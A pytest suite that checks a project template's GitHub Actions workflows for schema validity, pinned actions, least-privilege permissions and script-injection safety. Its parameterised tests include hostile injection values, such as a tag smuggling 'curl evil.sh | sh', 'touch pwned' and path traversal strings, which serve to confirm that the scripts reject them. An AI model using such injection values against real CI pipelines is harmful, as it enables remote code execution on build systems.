"""The GitHub Actions workflows of a generated project are valid and follow safe habits.

They are copied verbatim into every project and taught as examples, so they are checked the
way a careful reviewer would: GitHub's JSON schema (check-jsonschema), the zizmor security
linter, and the invariants below asserted directly on the YAML. Both tools come with the
`test` extra of this repository; CI installs it, so a missing tool fails rather than skips.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest
import yaml

REPO_ROOT = Path(__file__).resolve().parents[1]
TEMPLATE_WORKFLOWS = (
    REPO_ROOT / "templates" / "project" / "{% if ci == 'github' %}.github{% endif %}" / "workflows"
)
EXPECTED_WORKFLOWS = {"ci.yml", "monitor.yml"}

# owner/repo[/path]@<40 hex digits>: a commit, which (unlike a tag) cannot be moved.
PINNED = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
# The same, on the source line, followed by a comment naming the release (`# v4.2.2`).
PINNED_LINE = re.compile(r"uses:\s*[\w.-]+/[\w./-]+@[0-9a-f]{40}\s+#\s*v\d+(\.\d+)*\s*$")
RESTRICTIVE_PERMISSIONS = ({}, {"contents": "read"})


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project rendered from this repository (HEAD plus any uncommitted changes)."""
    import copier

    dest = tmp_path_factory.mktemp("workflows") / "p"
    with warnings.catch_warnings():
        # Rendering a working tree with uncommitted changes is expected while developing.
        warnings.simplefilter("ignore", copier.errors.DirtyLocalWarning)
        copier.run_copy(
            str(REPO_ROOT),
            dest,
            data={"use_case": "fraud-detection", "project_name": "wf-check"},
            defaults=True,
            vcs_ref="HEAD",
            unsafe=False,
            quiet=True,
        )
    return dest


def _workflow_files(project: Path) -> list[Path]:
    folder = project / ".github" / "workflows"
    files = sorted([*folder.glob("*.yml"), *folder.glob("*.yaml")])
    assert files, f"no workflow files in {folder}"
    return files


def _tool(name: str) -> str:
    """The command `name` from this interpreter's environment, else from PATH."""
    beside = Path(sys.executable).parent / name
    if beside.is_file():
        return str(beside)
    found = shutil.which(name)
    if found is None:
        pytest.fail(
            f"`{name}` is not installed. Install the `test` extra of this repository "
            "(for example `pip install -e '.[test]'`): it provides check-jsonschema and zizmor.",
            pytrace=False,
        )
    return found


def _run(command: list[str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)


def _steps(workflow: dict) -> list[dict]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def _load(path: Path) -> dict:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def test_workflows_are_copied_verbatim(project: Path) -> None:
    generated = {p.name: p for p in _workflow_files(project)}
    assert set(generated) == EXPECTED_WORKFLOWS
    for name, path in generated.items():
        # No `.jinja` suffix: `${{ }}` expressions must reach GitHub untouched.
        assert path.read_bytes() == (TEMPLATE_WORKFLOWS / name).read_bytes(), name


def test_workflows_match_github_schema(project: Path) -> None:
    files = [str(p) for p in _workflow_files(project)]
    result = _run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files]
    )
    assert result.returncode == 0, f"check-jsonschema:\n{result.stdout}\n{result.stderr}"


def test_workflows_pass_zizmor(project: Path) -> None:
    files = [str(p) for p in _workflow_files(project)]
    result = _run([_tool("zizmor"), "--offline", "--no-progress", "--color", "never", *files])
    assert result.returncode == 0, f"zizmor found problems:\n{result.stdout}\n{result.stderr}"


def test_actions_are_pinned_to_commits(project: Path) -> None:
    for path in _workflow_files(project):
        workflow = _load(path)
        uses = [step["uses"] for step in _steps(workflow) if "uses" in step]
        uses += [job["uses"] for job in workflow["jobs"].values() if "uses" in job]
        assert uses, f"{path.name}: no actions used?"
        unpinned = [u for u in uses if not u.startswith("./") and not PINNED.match(u)]
        assert not unpinned, f"{path.name}: not pinned to a 40-hex commit SHA: {unpinned}"
        lines = [line.strip() for line in path.read_text().splitlines() if "uses:" in line]
        uncommented = [line for line in lines if not PINNED_LINE.search(line)]
        assert not uncommented, f"{path.name}: pin without a `# vX.Y.Z` comment: {uncommented}"


def test_permissions_are_least_privilege(project: Path) -> None:
    for path in _workflow_files(project):
        workflow = _load(path)
        assert "permissions" in workflow, f"{path.name}: no top-level permissions"
        assert workflow["permissions"] in RESTRICTIVE_PERMISSIONS, (
            f"{path.name}: top-level permissions {workflow['permissions']!r} are broader than "
            "`contents: read`; grant more to the one job that needs it"
        )
        for name, job in workflow["jobs"].items():
            granted = job.get("permissions", {})
            assert granted not in ("write-all", "read-all"), f"{path.name}: job {name}: {granted}"


def test_no_expressions_in_run_scripts(project: Path) -> None:
    # `${{ }}` is pasted into the script before the shell sees it: text from a branch name or
    # a PR title would run as code. Pass values through `env:` and use "$VAR" instead.
    for path in _workflow_files(project):
        for step in _steps(_load(path)):
            assert "${{" not in step.get("run", ""), f"{path.name}: {step['run']!r}"


def test_checkout_does_not_persist_credentials(project: Path) -> None:
    for path in _workflow_files(project):
        checkouts = [
            s for s in _steps(_load(path)) if s.get("uses", "").startswith("actions/checkout@")
        ]
        assert checkouts, f"{path.name}: no checkout step"
        for step in checkouts:
            assert step.get("with", {}).get("persist-credentials") is False, (
                f"{path.name}: checkout must set `persist-credentials: false`"
            )


def test_every_job_has_a_timeout(project: Path) -> None:
    # A hung job otherwise holds a runner for GitHub's default of six hours.
    for path in _workflow_files(project):
        for name, job in _load(path)["jobs"].items():
            assert "timeout-minutes" in job, f"{path.name}: job {name} has no timeout-minutes"


# The scheduled workflow closes the loop: monitor, on a breach retrain and gate, then promote
# or open a pull request. Its decisions are asserted on the YAML, and the scripts that make
# them are run here on made-up reports, as the runner would run them.

WRITE_SCOPES = {"contents": "write", "pull-requests": "write"}
PLAIN_TAG = "fraud_detection:abc123def456"


def _monitor_workflow(project: Path) -> dict:
    return _load(project / ".github" / "workflows" / "monitor.yml")


def _triggers(workflow: dict) -> dict:
    # YAML 1.1 (PyYAML) reads the bare key `on` as the boolean True.
    return workflow.get("on", workflow.get(True))


def _step(job: dict, text: str) -> dict:
    """The one step of `job` whose run script contains `text`."""
    found = [step for step in job.get("steps", []) if text in step.get("run", "")]
    assert len(found) == 1, f"expected one step running {text!r}, found {len(found)}"
    return found[0]


def _python_step(job: dict, text: str) -> dict:
    """The one `shell: python` step of `job` whose script contains `text`."""
    found = [
        step
        for step in job.get("steps", [])
        if step.get("shell") == "python" and text in step.get("run", "")
    ]
    assert len(found) == 1, f"expected one python step reading {text!r}, found {len(found)}"
    return found[0]


def _pull_request_job(workflow: dict) -> tuple[str, dict]:
    found = [
        (name, job)
        for name, job in workflow["jobs"].items()
        if any("gh pr create" in step.get("run", "") for step in job.get("steps", []))
    ]
    assert len(found) == 1, f"expected one job opening a pull request, found {len(found)}"
    return found[0]


def _monitor_job(workflow: dict) -> dict:
    jobs = [
        job
        for job in workflow["jobs"].values()
        if any("make monitor" in step.get("run", "") for step in job.get("steps", []))
    ]
    assert len(jobs) == 1
    return jobs[0]


def _run_python_step(step: dict, cwd: Path, **env: str) -> tuple[int, str, dict[str, str]]:
    """Run a `shell: python` step in `cwd`; return its exit status, output and outputs."""
    assert step.get("shell") == "python", step.get("name")
    outputs = cwd / "github_output"
    outputs.write_text("")
    result = subprocess.run(
        [sys.executable, "-c", step["run"]],
        cwd=cwd,
        env={"PATH": "", "GITHUB_OUTPUT": str(outputs), **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    written = dict(line.split("=", 1) for line in outputs.read_text().splitlines() if "=" in line)
    return result.returncode, result.stdout + result.stderr, written


def test_dispatch_input_reaches_the_script_through_env(project: Path) -> None:
    workflow = _monitor_workflow(project)
    triggers = _triggers(workflow)
    assert "schedule" in triggers
    drift = triggers["workflow_dispatch"]["inputs"]["drift"]
    assert drift["type"] == "boolean"
    assert drift["default"] is False, "scheduled runs and default dispatches are not drifted"

    traffic = _step(_monitor_job(workflow), "make traffic")
    names = [name for name, value in traffic.get("env", {}).items() if "inputs.drift" in value]
    assert len(names) == 1, "the drift input should reach the script through one env variable"
    assert f'"${names[0]}"' in traffic["run"]
    assert "DRIFT=1" in traffic["run"]
    # Nowhere else: an input pasted into a script is an injection (see the test above).
    for step in _steps(workflow):
        if step is not traffic:
            assert "inputs." not in yaml.safe_dump(step), step


def test_no_step_passes_make_a_variable_it_did_not_ask_for(project: Path) -> None:
    """make takes the environment's variables as its own: an `env:` named like a variable of
    the Makefile (DRIFT=false from an unticked box) would change what a target does."""
    makefile = (project / "Makefile").read_text(encoding="utf-8")
    variables = set(re.findall(r"^([A-Z][A-Z0-9_]*)\s*\?=", makefile, re.MULTILINE))
    assert {"DRIFT", "SIZE", "ACTION"} <= variables
    for path in _workflow_files(project):
        for step in _steps(_load(path)):
            if "make " in step.get("run", ""):
                shared = variables & set(step.get("env", {}))
                assert not shared, f"{path.name}: step {step.get('name')!r} exports {shared}"


def test_breach_is_read_from_the_monitoring_summary(project: Path) -> None:
    job = _monitor_job(_monitor_workflow(project))
    monitor = _step(job, "make monitor")
    # A breach fails the monitor: the job must go on to read why.
    assert monitor.get("continue-on-error") is True
    verdict = _python_step(job, "summary.json")
    assert f"steps.{monitor['id']}.outcome" in verdict["env"]["MONITOR_OUTCOME"]
    assert job["outputs"]["breached"] == f"${{{{ steps.{verdict['id']}.outputs.breached }}}}"


@pytest.mark.parametrize(
    ("outcome", "summary", "expected"),
    [
        ("success", {"breached": False, "reasons": []}, "false"),
        ("failure", {"breached": True, "reasons": ["drift in 4 of 9 columns"]}, "true"),
        ("failure", None, None),  # crashed before writing a summary
        ("failure", {"breached": False, "reasons": []}, None),  # failed for another reason
        ("success", {"breached": True, "reasons": ["?"]}, None),  # contradiction
        ("failure", {"breached": "yes"}, None),
    ],
)
def test_monitoring_verdict_script(
    project: Path, tmp_path: Path, outcome: str, summary: dict | None, expected: str | None
) -> None:
    job = _monitor_job(_monitor_workflow(project))
    verdict = _python_step(job, "summary.json")
    if summary is not None:
        folder = tmp_path / "reports" / "monitoring"
        folder.mkdir(parents=True)
        (folder / "summary.json").write_text(json.dumps(summary))
    status, log, outputs = _run_python_step(verdict, tmp_path, MONITOR_OUTCOME=outcome)
    if expected is None:
        assert status != 0, f"an error in monitoring must fail the job:\n{log}"
        assert "breached" not in outputs
    else:
        assert status == 0, log
        assert outputs == {"breached": expected}


def test_retraining_runs_only_on_a_breach(project: Path) -> None:
    job = _monitor_job(_monitor_workflow(project))
    verdict = _python_step(job, "summary.json")
    on_breach = f"steps.{verdict['id']}.outputs.breached == 'true'"
    retrain = _step(job, "make retrain")
    assert retrain.get("if") == on_breach
    # A refused challenger or an error fails the run: nobody silently keeps a drifting model.
    assert "continue-on-error" not in retrain
    assert "|| true" not in retrain["run"]
    outcome = _python_step(job, "outcome.json")
    assert outcome.get("if") == on_breach
    for name in ("decision", "challenger", "version"):
        assert job["outputs"][name] == f"${{{{ steps.{outcome['id']}.outputs.{name} }}}}"


@pytest.mark.parametrize(
    ("decision", "challenger", "proposal", "expected"),
    [
        ("proposed", PLAIN_TAG, True, "abc123def456"),
        ("promoted", PLAIN_TAG, False, "abc123def456"),
        ("promoted", "abc123", False, "abc123"),
        ("refused", None, False, None),  # `make retrain` exits 1 then; never proposed
        ("proposed", PLAIN_TAG, False, None),  # nothing to propose
        ("proposed", "x:1; curl evil.sh | sh", True, None),  # not a plain tag
        ("proposed", "../../escape", True, None),
    ],
)
def test_retraining_outcome_script(
    project: Path,
    tmp_path: Path,
    decision: str,
    challenger: str | None,
    proposal: bool,
    expected: str | None,
) -> None:
    job = _monitor_job(_monitor_workflow(project))
    step = _python_step(job, "outcome.json")
    folder = tmp_path / "reports" / "retraining"
    folder.mkdir(parents=True)
    outcome = {
        "decision": decision,
        "action": "pull_request" if decision == "proposed" else "promote",
        "champion": challenger if decision == "promoted" else "fraud_detection:old",
        "challenger": challenger,
        "reasons": ["recall 0.81 >= 0.78"],
    }
    (folder / "outcome.json").write_text(json.dumps(outcome))
    if proposal:
        (folder / "proposal").mkdir()
        (folder / "proposal" / "README.md").write_text("# Challenger vs champion\n")
    status, log, outputs = _run_python_step(step, tmp_path)
    if expected is None:
        assert status != 0, log
        assert "decision" not in outputs
    else:
        assert status == 0, log
        assert outputs == {"decision": decision, "challenger": challenger, "version": expected}


def test_reports_are_uploaded_whatever_the_outcome(project: Path) -> None:
    job = _monitor_job(_monitor_workflow(project))
    uploads = [s for s in job["steps"] if s.get("uses", "").startswith("actions/upload-artifact@")]
    paths = {step["with"]["path"].rstrip("/"): step for step in uploads}
    assert {"reports/monitoring", "reports/retraining"} <= set(paths)
    for step in uploads:
        assert step.get("if") == "always()", step


def test_only_the_pull_request_job_can_write(project: Path) -> None:
    monitor = _monitor_workflow(project)
    pr_name, pr_job = _pull_request_job(monitor)
    assert pr_job["permissions"] == WRITE_SCOPES
    for path in _workflow_files(project):
        for name, job in _load(path)["jobs"].items():
            if path.name == "monitor.yml" and name == pr_name:
                continue
            granted = job.get("permissions", {})
            assert isinstance(granted, dict), f"{path.name}: job {name}: {granted!r}"
            assert set(granted.values()) <= {"read", "none"}, f"{path.name}: job {name}"
    # It runs no project code: the model is built and judged by the read-only job, and the
    # pull request is opened only when that job's gate accepted a challenger to propose.
    assert not any("make " in step.get("run", "") for step in pr_job["steps"])
    (reader,) = [name for name, job in monitor["jobs"].items() if job is _monitor_job(monitor)]
    assert pr_job["needs"] in (reader, [reader])
    assert pr_job["if"] == f"needs.{reader}.outputs.decision == 'proposed'"


def test_pull_request_job_takes_the_proposal_from_an_artifact(project: Path) -> None:
    workflow = _monitor_workflow(project)
    _, pr_job = _pull_request_job(workflow)
    uploaded = {
        step["with"]["name"]: step["with"]["path"]
        for step in _monitor_job(workflow)["steps"]
        if step.get("uses", "").startswith("actions/upload-artifact@")
    }
    downloads = [
        s for s in pr_job["steps"] if s.get("uses", "").startswith("actions/download-artifact@")
    ]
    assert len(downloads) == 1
    assert uploaded[downloads[0]["with"]["name"]].rstrip("/") == "reports/retraining"
    script = _step(pr_job, "gh pr create")
    assert script["env"]["GH_TOKEN"] in ("${{ secrets.GITHUB_TOKEN }}", "${{ github.token }}")


def _fake_tool(folder: Path, name: str, log: Path, real: str | None = None) -> None:
    """A `name` on PATH that appends its arguments to `log`, then runs `real` if given."""
    script = folder / name
    lines = ["#!/bin/sh", f'printf "%s\\n" "{name} $*" >> "{log}"']
    if name == "gh":
        lines.append(
            'while [ $# -gt 0 ]; do [ "$1" = --body-file ] && cp "$2" "$BODY_COPY"; shift; done'
        )
    if real is not None:
        lines.append(f'case "$1" in push) exit 0 ;; esac\nexec "{real}" "$@"')
    script.write_text("\n".join(lines) + "\n")
    script.chmod(0o755)


def _run_pull_request_script(
    project: Path, tmp_path: Path, challenger: str, version: str
) -> tuple[subprocess.CompletedProcess[str], Path, Path, Path]:
    _, pr_job = _pull_request_job(_monitor_workflow(project))
    script = _step(pr_job, "gh pr create")
    git, bash = shutil.which("git"), shutil.which("bash")
    assert git is not None, "git is needed to render the project"
    assert bash is not None, "bash runs the steps of GitHub's Ubuntu runners"
    repo, bin_dir, temp = tmp_path / "repo", tmp_path / "bin", tmp_path / "runner-temp"
    for folder in (repo, bin_dir, temp / "retraining" / "proposal"):
        folder.mkdir(parents=True)
    (temp / "retraining" / "proposal" / "README.md").write_text("# Challenger vs champion\n")
    (temp / "retraining" / "proposal" / "model_card.md").write_text("# Model card\n")
    log = tmp_path / "calls.log"
    _fake_tool(bin_dir, "git", log, real=git)
    _fake_tool(bin_dir, "gh", log)
    isolated = {"GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path)}
    for command in (["init", "-q", "-b", "main"], ["commit", "-q", "--allow-empty", "-m", "init"]):
        subprocess.run(
            [git, "-c", "user.name=t", "-c", "user.email=t@t", *command],
            cwd=repo,
            env={**isolated, "PATH": os.environ.get("PATH", "")},
            check=True,
        )
    (script_file := tmp_path / "step.sh").write_text(script["run"])
    env = {
        **isolated,
        "PATH": f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}",
        "GH_TOKEN": "t0ken",
        "CHALLENGER": challenger,
        "VERSION": version,
        "RETRAINING": str(temp / "retraining"),
        "RUNNER_TEMP": str(temp),
        "GITHUB_RUN_ID": "4242",
        "GITHUB_REPOSITORY": "acme/models",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REF_NAME": "main",
        "BODY_COPY": str(tmp_path / "body.md"),
    }
    # As GitHub runs a `run:` script with the default shell.
    result = subprocess.run(
        [bash, "--noprofile", "--norc", "-eo", "pipefail", str(script_file)],
        cwd=repo,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return result, repo, log, tmp_path / "body.md"


def test_pull_request_script_commits_pushes_and_opens(project: Path, tmp_path: Path) -> None:
    result, repo, log, body = _run_pull_request_script(project, tmp_path, PLAIN_TAG, "abc123def456")
    assert result.returncode == 0, result.stdout + result.stderr
    calls = log.read_text().splitlines()
    branch = "model-proposal/abc123def456-run-4242"
    push = [c for c in calls if c.startswith("git push")]
    assert push == [
        f"git push https://x-access-token:t0ken@github.com/acme/models.git HEAD:refs/heads/{branch}"
    ]
    create = [c for c in calls if c.startswith("gh pr create")]
    assert len(create) == 1
    assert f"--base main --head {branch}" in create[0]
    committed = subprocess.run(
        ["git", "show", "--name-only", "--format=%an <%ae>%n%s", branch],
        cwd=repo,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.splitlines()
    assert committed[0].startswith("github-actions[bot] <")
    assert PLAIN_TAG in committed[1]
    assert set(committed[2:]) - {""} == {
        "model-proposals/abc123def456/README.md",
        "model-proposals/abc123def456/model_card.md",
    }
    text = body.read_text()
    assert "# Challenger vs champion" in text
    assert f"promote {PLAIN_TAG}" in text
    assert "actions/runs/4242" in text


@pytest.mark.parametrize(
    ("challenger", "version"),
    [("a:b; touch pwned", "b"), ("a:b", "../b"), ("a:b", ""), ("a:b", "-b")],
)
def test_pull_request_script_refuses_odd_tags(
    project: Path, tmp_path: Path, challenger: str, version: str
) -> None:
    result, _, log, _ = _run_pull_request_script(project, tmp_path, challenger, version)
    assert result.returncode != 0
    assert "Unexpected challenger tag" in result.stdout
    assert not log.exists(), "nothing may be committed or pushed for an unexpected tag"


# This repository's own workflows, and the one docs/updating.md shows -------------------------

REPOSITORY_WORKFLOWS = sorted((REPO_ROOT / ".github" / "workflows").glob("*.yml"))


@pytest.fixture(scope="module")
def documented_workflow(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The scheduled update check of docs/updating.md, as a file."""
    docs = (REPO_ROOT / "docs" / "updating.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```yaml\n(.*?)```", docs, re.S)
    (block,) = [b for b in blocks if "mlops-new update --check" in b]
    path = tmp_path_factory.mktemp("docs") / "template-update.yml"
    path.write_text(block, encoding="utf-8")
    return path


def test_repository_and_documented_workflows_pass_the_schema_and_zizmor(
    documented_workflow: Path,
) -> None:
    files = [str(p) for p in [*REPOSITORY_WORKFLOWS, documented_workflow]]
    assert len(files) >= 2
    schema = _run(
        [_tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files]
    )
    assert schema.returncode == 0, f"check-jsonschema:\n{schema.stdout}\n{schema.stderr}"
    audit = _run([_tool("zizmor"), "--offline", "--no-progress", "--color", "never", *files])
    assert audit.returncode == 0, f"zizmor found problems:\n{audit.stdout}\n{audit.stderr}"
    for path in map(Path, files):
        lines = [line.strip() for line in path.read_text().splitlines() if "uses:" in line]
        assert lines and all(PINNED_LINE.search(line) for line in lines), path.name


def test_repository_ci_runs_the_readmes_test_command_on_the_whole_history() -> None:
    """Versions come from git history: a shallow checkout could not build or name them."""
    workflow = _load(REPO_ROOT / ".github" / "workflows" / "ci.yml")
    runs = [step.get("run", "") for step in _steps(workflow)]
    assert "make test" in runs and "make dist" in runs
    assert "make test" in (REPO_ROOT / "README.md").read_text()
    checkouts = [s for s in _steps(workflow) if s.get("uses", "").startswith("actions/checkout@")]
    assert checkouts and all(s["with"]["fetch-depth"] == 0 for s in checkouts)


def test_the_documented_check_opens_an_issue_only_when_behind(documented_workflow: Path) -> None:
    workflow = _load(documented_workflow)
    (job,) = workflow["jobs"].values()
    assert workflow["permissions"] == {"contents": "read"}
    assert job["permissions"] == {"contents": "read", "issues": "write"}
    check, issue = job["steps"][-2], job["steps"][-1]
    assert "mlops-new update --check" in check["run"]
    assert issue["if"] == "steps.check.outputs.behind == 'true'"


def test_codeowners_example_names_paths_the_project_has(project: Path) -> None:
    # The example is commented out until a team fills in its owners; its paths must exist,
    # so that uncommenting a line protects what it says it protects.
    lines = (project / ".github" / "CODEOWNERS").read_text().splitlines()
    entries = [line.lstrip("# ").split() for line in lines if re.match(r"#\s*\S+\s+@", line)]
    assert entries, "CODEOWNERS lists no example path"
    for path, *owners in entries:
        assert owners and all(owner.startswith("@") for owner in owners), path
        assert (project / path.rstrip("/")).exists(), f"CODEOWNERS names {path}, not in the project"


def test_pull_request_template_asks_for_the_report_the_card_and_the_run(project: Path) -> None:
    template = (project / ".github" / "pull_request_template.md").read_text()
    for asked in ("evaluation report", "model card", "MLflow run", "rollback"):
        assert asked in template
    for path in ("reports/evaluation/evaluation.md", "reports/retraining/outcome.json"):
        assert path in template
